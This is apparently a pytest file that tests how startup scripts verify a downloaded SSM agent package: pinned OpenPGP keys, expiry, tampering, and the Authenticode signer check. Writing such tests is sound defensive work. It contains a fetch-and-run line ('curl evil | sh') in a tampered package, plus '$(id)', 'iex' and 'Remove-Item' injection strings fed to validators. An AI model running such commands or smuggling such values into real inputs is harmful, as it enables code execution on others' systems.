"""The startup scripts' check of a downloaded SSM agent package, script alone against a fake
download location: the detached OpenPGP signature must verify with gpgv (or gpg) against the
keyring the API baked in, by a pinned fingerprint of a key that has not expired; the production
default is AWS's own signing key; the PowerShell script checks the installer's Authenticode
signer (statically: no PowerShell here)."""

from __future__ import annotations

import base64
import os
import re
import subprocess
import time
from pathlib import Path

import httpx
import pytest

from clients import startup
from clients.startup import agent_trust
from config.settings import ApiSettings, AwsSettings, Settings
from contracts.providers import OsFamily
from localclouds.aws import agent_packages, agent_signing, worker_env
from localclouds.fleet.platforms import PLATFORMS
from tests.unit.fleet.conftest import Answer, FakeApi

AUDIENCE = "https://fleetpatch.example/v1/registrations"
#: AWS's SSM agent signing key (clouds/aws/trust/SOURCE.txt).
AWS_FINGERPRINT = "1C5B395CBE5E74E2F1CA21592784DBF388D19D46"  # AWS's current key (created 2026-06-04)
AWS_EXPIRED_2025 = "DE92C7DA3E56E92331D62A36BC1F495C97DD04ED"  # an earlier key in the same file
DEB = "/agent/debian_amd64/amazon-ssm-agent.deb"
RPM = "/agent/linux_amd64/amazon-ssm-agent.rpm"


@pytest.fixture(scope="module")
def signer(tmp_path_factory: pytest.TempPathFactory) -> agent_signing.SigningKey:
    key, _ = agent_signing.ensure_key(tmp_path_factory.mktemp("state"))
    return key


def _trust(*keys: agent_signing.SigningKey, pinned: int = 1) -> agent_trust.AgentTrust:
    """A keyring of ``keys``; the first ``pinned`` of them pinned."""
    packets = b"".join(k.public_packets() for k in keys)
    return agent_trust.AgentTrust(base64.b64encode(packets).decode(), tuple(k.fingerprint for k in keys[:pinned]))


def _without(tmp_path: Path, *tools: str) -> str:
    """A PATH with every system command except ``tools`` (as on a VM that lacks them)."""
    directory = tmp_path / "system"
    directory.mkdir(parents=True, exist_ok=True)
    for folder in ("/usr/bin", "/bin"):
        for name in os.listdir(folder):
            if name not in tools and not (directory / name).exists():
                (directory / name).symlink_to(Path(folder) / name)
    return str(directory)


def _run(tmp_path: Path, fake_api: FakeApi, os_family: OsFamily, trust: agent_trust.AgentTrust | None,
         system: str = "/usr/bin:/bin") -> subprocess.CompletedProcess[str]:
    """The GCP script on a VM with no agent (its metadata server is never reached when the
    install refuses); dpkg/rpm record their calls."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(parents=True, exist_ok=True)
    for tool in ("dpkg", "rpm"):
        (bin_dir / tool).write_text(f"#!/bin/sh\necho \"{tool} $*\" >> \"{tmp_path}/installs\"\n")
        (bin_dir / tool).chmod(0o755)
    (tmp_path / "os-release").write_text(PLATFORMS[os_family].os_release())
    script = tmp_path / "startup.sh"
    script.write_text(startup.render("gcp", "linux", fake_api.url, AUDIENCE, agent_url=f"{fake_api.url}/agent",
                                     agent_trust=trust))
    env = {"PATH": f"{bin_dir}:{system}", "LANG": "C.UTF-8", "FLEETPATCH_METADATA_URL": "http://127.0.0.1:9",
           "FLEETPATCH_OS_RELEASE": str(tmp_path / "os-release"), "FLEETPATCH_MAX_ATTEMPTS": "3",
           "FLEETPATCH_RETRY_BASE": "0.05", "FLEETPATCH_RETRY_CAP": "0.1"}
    return subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True, timeout=60)


def _publish(fake_api: FakeApi, path: str, body: bytes, signature: bytes | Answer | None) -> None:
    fake_api.on("GET", path, Answer(200, body))
    if signature is not None:
        fake_api.on("GET", f"{path}.sig", signature if isinstance(signature, Answer) else Answer(200, signature))


def _installed(tmp_path: Path) -> list[str]:
    return (tmp_path / "installs").read_text().split() if (tmp_path / "installs").exists() else []


def test_a_signed_package_is_verified_then_installed_with_the_os_familys_tool(
        tmp_path: Path, fake_api: FakeApi, signer: agent_signing.SigningKey) -> None:
    body = agent_packages.standin("deb")
    _publish(fake_api, DEB, body, signer.sign(body))
    result = _run(tmp_path, fake_api, OsFamily.DEBIAN, _trust(signer))
    # The recording dpkg installs no agent: the script says so rather than registering without one.
    assert result.returncode == 1 and "installed no amazon-ssm-agent command" in result.stderr, result.stderr
    assert _installed(tmp_path)[:2] == ["dpkg", "-i"] and fake_api.posts() == []


@pytest.mark.parametrize(("signature", "message"), [
    (Answer(404, {"error": "NoSuchKey"}), "refusing to install the SSM agent: no signature at "),
    (Answer(200, "not a signature\n"), "refusing to install the SSM agent: linux_amd64/amazon-ssm-agent.rpm's signature could not be verified"),
    (Answer(200, b""), "signature could not be verified"),
], ids=["missing", "garbage", "empty"])
def test_no_usable_signature_installs_nothing(tmp_path: Path, fake_api: FakeApi, signer: agent_signing.SigningKey,
                                              signature: Answer, message: str) -> None:
    _publish(fake_api, RPM, agent_packages.standin("rpm"), signature)
    result = _run(tmp_path, fake_api, OsFamily.RHEL, _trust(signer))
    assert result.returncode == 1 and message in result.stderr, result.stderr
    assert _installed(tmp_path) == [] and fake_api.posts() == []


def test_a_tampered_package_or_another_keys_signature_is_refused(tmp_path: Path, fake_api: FakeApi,
                                                                 signer: agent_signing.SigningKey) -> None:
    body, other = agent_packages.standin("rpm"), agent_signing.generate()
    _publish(fake_api, RPM, body + b"postinst: curl evil | sh\n", signer.sign(body))
    tampered = _run(tmp_path, fake_api, OsFamily.RHEL, _trust(signer))
    assert tampered.returncode == 1 and "rpm's signature is BAD" in tampered.stderr, tampered.stderr
    _publish(fake_api, RPM, body, other.sign(body))
    foreign = _run(tmp_path, fake_api, OsFamily.RHEL, _trust(signer))
    assert foreign.returncode == 1, foreign.stderr
    assert f"signed by key {other.fingerprint[-16:]}, not by a trusted key ({signer.fingerprint})" in foreign.stderr
    assert _installed(tmp_path) == []


def test_a_key_in_the_keyring_is_trusted_only_when_pinned(tmp_path: Path, fake_api: FakeApi,
                                                         signer: agent_signing.SigningKey) -> None:
    body, unpinned = agent_packages.standin("deb"), agent_signing.generate()
    _publish(fake_api, DEB, body, unpinned.sign(body))
    result = _run(tmp_path, fake_api, OsFamily.UBUNTU, _trust(signer, unpinned, pinned=1))
    assert result.returncode == 1, result.stderr
    assert f"signed by key {unpinned.fingerprint}, which is not a pinned fingerprint ({signer.fingerprint})" in result.stderr
    assert _installed(tmp_path) == []
    rotating = _run(tmp_path, fake_api, OsFamily.UBUNTU, _trust(signer, unpinned, pinned=2))  # old and new key pinned
    assert "installed no amazon-ssm-agent command" in rotating.stderr, rotating.stderr
    assert _installed(tmp_path)[:2] == ["dpkg", "-i"]


def test_a_signature_by_an_expired_key_is_refused_even_one_made_before_it_expired(tmp_path: Path,
                                                                                   fake_api: FakeApi) -> None:
    now = int(time.time())
    expired = agent_signing.generate(created=now - 10_000, expires_after=5_000)  # expired 5000 s ago
    body = agent_packages.standin("deb")
    for signed_at in (now - 100, now - 8_000):  # after it expired; while it was valid (or backdated)
        _publish(fake_api, DEB, body, expired.sign(body, now=signed_at))
        result = _run(tmp_path, fake_api, OsFamily.UBUNTU, _trust(expired))
        assert result.returncode == 1, result.stderr
        assert f"signed by key {expired.fingerprint}, which has expired or been revoked" in result.stderr
        assert "aws.agent_signing_key_file" in result.stderr
    assert _installed(tmp_path) == []


def test_without_gpgv_gpg_verifies_and_without_either_nothing_is_installed(
        tmp_path: Path, fake_api: FakeApi, signer: agent_signing.SigningKey) -> None:
    body = agent_packages.standin("deb")
    _publish(fake_api, DEB, body, signer.sign(body))
    with_gpg = _run(tmp_path / "gpg", fake_api, OsFamily.DEBIAN, _trust(signer),
                    system=_without(tmp_path / "gpg", "gpgv"))
    assert "installed no amazon-ssm-agent command" in with_gpg.stderr, with_gpg.stderr  # gpg verified it
    assert _installed(tmp_path / "gpg")[:2] == ["dpkg", "-i"]
    bare = _run(tmp_path / "bare", fake_api, OsFamily.DEBIAN, _trust(signer),
                system=_without(tmp_path / "bare", "gpgv", "gpg"))
    assert bare.returncode == 1, bare.stderr
    assert "refusing to install the SSM agent: neither gpgv nor gpg is installed" in bare.stderr
    assert _installed(tmp_path / "bare") == []


def test_windows_under_bash_is_pointed_to_the_powershell_script(tmp_path: Path, fake_api: FakeApi) -> None:
    result = _run(tmp_path, fake_api, OsFamily.WINDOWS, None)
    assert result.returncode == 1 and "the PowerShell startup script installs it" in result.stderr
    assert [s for s in fake_api.seen if s.path.startswith("/agent/")] == []


# --- the production default: AWS's own key ---------------------------------------------------------


def test_the_production_default_trusts_aws_signing_key_only() -> None:
    assert AwsSettings().agent_signing_fingerprints == [AWS_FINGERPRINT] and AwsSettings().agent_signing_key_file is None
    shipped = agent_trust.dearmor(agent_trust.DEFAULT_KEY_FILE.read_bytes())
    assert AWS_FINGERPRINT in agent_trust.fingerprints(shipped)
    text = startup.render("gcp", "linux", "https://api.example", AUDIENCE)
    assert "@@" not in text
    assert 'AGENT_URL="${FLEETPATCH_AGENT_URL:-https://s3.us-east-1.amazonaws.com/amazon-ssm-us-east-1/latest}"' in text
    assert f"AGENT_FINGERPRINTS='{AWS_FINGERPRINT}'" in text
    assert f"AGENT_KEYRING='{base64.b64encode(shipped).decode()}'" in text
    with pytest.raises(ValueError):
        startup.render("gcp", "linux", "https://api.example", AUDIENCE, agent_url="https://x.example/$(id)")


def test_the_api_says_at_start_when_a_pinned_key_has_expired(caplog: pytest.LogCaptureFixture, tmp_path: Path) -> None:
    from clients.api.app import create_app
    from clients.api.gateway import TemporalGateway

    shipped = agent_trust.dearmor(agent_trust.DEFAULT_KEY_FILE.read_bytes())
    # As gpg --show-keys shows them: AWS's file keeps its earlier keys beside the current one.
    assert agent_trust.expiries(shipped) == {
        "8108A07A9EBE248E3F1C63F254F4F56E693ECA21": 1648574438,  # 2022-03-29
        "2BC7C7C267BBD505EAA491E6DD81A61756BAA549": 1693954175,  # 2023-09-05
        AWS_EXPIRED_2025: 1739832066,  # 2025-02-17
        "4855A9E6833216D6A77D8FE451A8E050D0052E5D": 1784139566,  # 2026-07-15
        AWS_FINGERPRINT: 1827151087,  # 2027-11-25
    }
    default = agent_trust.from_settings(AwsSettings())
    assert agent_trust.expiry_warning(default, now=1827151087 - 86400) is None
    late = agent_trust.expiry_warning(default, now=1827151087 + 86400)
    assert late is not None and f"({AWS_FINGERPRINT} on 2027-11-25)" in late
    fresh = agent_signing.generate(expires_after=86400)
    assert agent_trust.expiries(fresh.public_packets()) == {fresh.fingerprint: fresh.created + 86400}
    assert agent_trust.expiries(agent_signing.generate().public_packets()).popitem()[1] is None

    def app_log(aws: AwsSettings) -> str:
        caplog.clear()
        with caplog.at_level("WARNING", logger="fleetpatch.api"):
            create_app(Settings(aws=aws), TemporalGateway(lambda: None))  # type: ignore[arg-type]
        return caplog.text

    expired = f"the SSM agent signing key expired ({AWS_EXPIRED_2025} on 2025-02-17)"
    assert expired in app_log(AwsSettings(agent_signing_fingerprints=[AWS_EXPIRED_2025]))
    (tmp_path / "fresh.asc").write_text(agent_signing.armor(fresh.public_packets()))
    assert "signing" not in app_log(AwsSettings(agent_signing_key_file=tmp_path / "fresh.asc",
                                                agent_signing_fingerprints=[fresh.fingerprint]))
    assert "no startup script can be served" in app_log(AwsSettings(agent_signing_key_file=tmp_path / "fresh.asc"))


def test_under_the_production_default_a_locally_signed_package_is_refused(
        tmp_path: Path, fake_api: FakeApi, signer: agent_signing.SigningKey) -> None:
    body = agent_packages.standin("rpm")
    _publish(fake_api, RPM, body, signer.sign(body))
    result = _run(tmp_path, fake_api, OsFamily.RHEL, startup.trust_from_settings(AwsSettings()))
    assert result.returncode == 1 and f"not by a trusted key ({AWS_FINGERPRINT})" in result.stderr, result.stderr
    assert _installed(tmp_path) == []


def test_the_trust_anchor_is_checked_before_it_is_baked_in(tmp_path: Path, signer: agent_signing.SigningKey) -> None:
    armored = agent_signing.armor(signer.public_packets())
    (tmp_path / "key.asc").write_text(armored)
    (tmp_path / "key.gpg").write_bytes(signer.public_packets())
    spaced = " ".join(re.findall("....", signer.fingerprint.lower()))
    for name in ("key.asc", "key.gpg"):
        assert agent_trust.load(tmp_path / name, [spaced]).fingerprints == (signer.fingerprint,)
    with pytest.raises(ValueError, match=f"holds no key {AWS_FINGERPRINT}"):
        agent_trust.load(tmp_path / "key.asc", [AWS_FINGERPRINT])
    # Rotation: the old and the new key in one file (two armored blocks), both pinned.
    (tmp_path / "both.asc").write_text(agent_trust.DEFAULT_KEY_FILE.read_text() + "\n" + armored)
    both = agent_trust.load(tmp_path / "both.asc", [AWS_FINGERPRINT, signer.fingerprint])
    shipped = agent_trust.fingerprints(agent_trust.dearmor(agent_trust.DEFAULT_KEY_FILE.read_bytes()))
    assert agent_trust.fingerprints(base64.b64decode(both.keyring_b64)) == [*shipped, signer.fingerprint]
    lines = armored.split("\n")
    lines[3] = lines[3][:10] + ("A" if lines[3][10] != "A" else "B") + lines[3][11:]
    (tmp_path / "damaged.asc").write_text("\n".join(lines))
    with pytest.raises(ValueError, match="CRC-24 does not match"):
        agent_trust.load(tmp_path / "damaged.asc", [signer.fingerprint])
    for bad, message in ((["abc"], "not a v4 OpenPGP fingerprint"), ([], "no agent signing fingerprint")):
        with pytest.raises(ValueError, match=message):
            agent_trust.load(tmp_path / "key.asc", bad)
    with pytest.raises(ValueError, match="cannot read"):
        agent_trust.load(tmp_path / "missing.asc", [signer.fingerprint])
    with pytest.raises(ValueError, match="not a SHA-1 thumbprint"):
        agent_trust.load(None, [AWS_FINGERPRINT], windows_thumbprints=["12'; iex"])
    with pytest.raises(ValueError, match="not a plain signer name"):
        agent_trust.load(None, [AWS_FINGERPRINT], windows_signer="x' ; Remove-Item")


def test_the_local_default_trusts_the_local_aws_key_by_configuration(tmp_path: Path) -> None:
    env = worker_env(tmp_path, "127.0.0.1", 8701)
    again = worker_env(tmp_path, "127.0.0.1", 8701)
    assert env == again  # one key per state directory, created once, like the local CA
    aws = AwsSettings(agent_signing_key_file=Path(env["FLEETPATCH_AWS__AGENT_SIGNING_KEY_FILE"]),
                      agent_signing_fingerprints=__import__("json").loads(env["FLEETPATCH_AWS__AGENT_SIGNING_FINGERPRINTS"]))
    signer, _ = agent_signing.ensure_key(tmp_path)
    assert startup.trust_from_settings(aws).fingerprints == (signer.fingerprint,) != (AWS_FINGERPRINT,)
    assert (agent_signing.key_dir(tmp_path) / "key.pem").stat().st_mode & 0o077 == 0


def test_the_powershell_script_checks_the_installers_authenticode_signer_before_running_it() -> None:
    trust = agent_trust.load(None, [AWS_FINGERPRINT], windows_thumbprints=["ab" * 20])
    text = startup.render("gcp", "windows", "https://api.example", AUDIENCE, agent_url="https://mirror.example/ssm",
                          agent_trust=trust)
    assert "@@" not in text and ".sha256" not in text
    assert "$AgentUrl = if ($env:FLEETPATCH_AGENT_URL) { $env:FLEETPATCH_AGENT_URL } else { 'https://mirror.example/ssm' }" in text
    assert "$AgentSigner = 'Amazon.com Services LLC'" in text
    assert f"$AgentThumbprints = @('{'AB' * 20}'.Split(',')" in text
    checked, ran = text.index("$thumbprint = Test-AgentSignature $file $path"), text.index("Start-Process -FilePath $file")
    assert checked < ran and "Get-AuthenticodeSignature -FilePath $File" in text
    assert "if ($signature.Status -ne 'Valid')" in text and "if ($name -ne $AgentSigner)" in text
    assert text.index("Install-Agent\nWrite-Log \"registering") > text.index("function Install-Agent")


async def test_the_api_bakes_in_the_configured_download_location_and_trust(
        tmp_path: Path, signer: agent_signing.SigningKey) -> None:
    from temporalio.client import Client

    from clients.api.app import create_app
    from clients.api.gateway import TemporalGateway

    async def unreachable() -> Client:
        raise ConnectionError("no Temporal here")

    async def served(aws: AwsSettings, os: str = "linux") -> httpx.Response:
        settings = Settings(api=ApiSettings(public_url="https://fleetpatch.example"), aws=aws)
        app = create_app(settings, TemporalGateway(unreachable))
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://api") as http:
            return await http.get("/v1/startup/azure", params={"os": os})

    default = await served(AwsSettings(region="eu-west-2"))
    assert default.status_code == 200 and "https://s3.eu-west-2.amazonaws.com/amazon-ssm-eu-west-2/latest" in default.text
    assert f"AGENT_FINGERPRINTS='{AWS_FINGERPRINT}'" in default.text
    mirror = AwsSettings(agent_download_url="https://mirror.example/ssm/{region}")
    assert "'https://mirror.example/ssm/us-east-1'" in (await served(mirror, "windows")).text
    (tmp_path / "key.asc").write_text(agent_signing.armor(signer.public_packets()))
    local = await served(AwsSettings(agent_signing_key_file=tmp_path / "key.asc",
                                     agent_signing_fingerprints=[signer.fingerprint]))
    assert f"AGENT_FINGERPRINTS='{signer.fingerprint}'" in local.text
    for aws in (AwsSettings(agent_download_url="https://mirror.example/$(id)"),
                AwsSettings(agent_signing_key_file=tmp_path / "key.asc"),  # AWS's fingerprint, another key
                AwsSettings(agent_signing_key_file=tmp_path / "none.asc")):
        refused = await served(aws)
        assert refused.status_code == 503 and refused.json()["error"] == "ConfigurationInvalid", refused.text
